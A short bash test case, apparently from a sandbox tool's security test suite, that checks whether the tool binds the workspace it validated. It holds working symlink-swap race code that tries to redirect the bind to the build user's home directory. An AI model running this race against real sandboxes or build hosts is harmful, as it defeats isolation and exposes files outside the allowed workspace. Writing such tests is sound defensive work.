#!/bin/bash
# SPDX-License-Identifier: ISC
# Swaps the workspace for a link to the home while connections come in; what was looked at is what is bound.
# guarantee: G1
# shellcheck shell=bash disable=SC2034,SC2154,SC2016

prepare() {
	target=build
	install -d -o build -g build /srv/attacks-own /srv/attacks-own/tree
	with
	sed -i 's|^path = .*|path = /srv/attacks-own/tree|' $profiles/build.ini
	runuser -u build -- perl -e 'chdir "/srv/attacks-own"; symlink "/home/build", "link"; my $end = time + 40;
		while (time < $end) { for (1 .. 500) { rename "tree", "away"; rename "link", "tree"; rename "tree", "link"; rename "away", "tree" } }' 3>&- &
	racer=$!
}
attack() {
	local try status=1
	for try in $(seq 20); do
		if [ "$mode" = control ]; then
			runuser -u build -- bwrap --ro-bind /usr /usr --symlink usr/bin /bin --symlink usr/lib /lib --symlink usr/lib64 /lib64 \
				--bind /srv/attacks-own/tree /tree ls /tree/attacks-host
		else
			s 'ls attacks-host'
		fi >/dev/null 2>&1 && status=0 && break
	done
	return $status
}
cleanup() {
	pkill -u build -x perl
	wait $racer 2>/dev/null
	rm -rf /srv/attacks-own
}
